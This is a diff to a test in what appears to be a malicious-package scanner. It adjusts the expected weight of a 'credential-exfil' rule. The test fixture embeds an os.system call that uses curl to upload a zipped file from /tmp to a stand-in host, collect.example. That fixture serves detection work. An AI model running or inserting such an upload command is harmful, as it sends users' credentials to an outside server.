@@ -440,7 +440,8 @@ def collect():
 def test_credential_stores_uploaded_whole_by_a_command_are_held_in_any_module() -> None:
     send = 'os.system("curl -k -F file=@/tmp/c.zip https://collect.example/upload")'
     rules, held = _report(_package({"demo/sync.py": COLLECT.format(send=send)}), "demo-1.0.tar.gz")
-    assert held and rules["credential-exfil"] == 8 * 0.6
+    # (a small package: its modules weigh in full, rules 22)
+    assert held and rules["credential-exfil"] == 8
 
 
 def test_credential_stores_beside_ordinary_network_use_keep_their_weight() -> None:
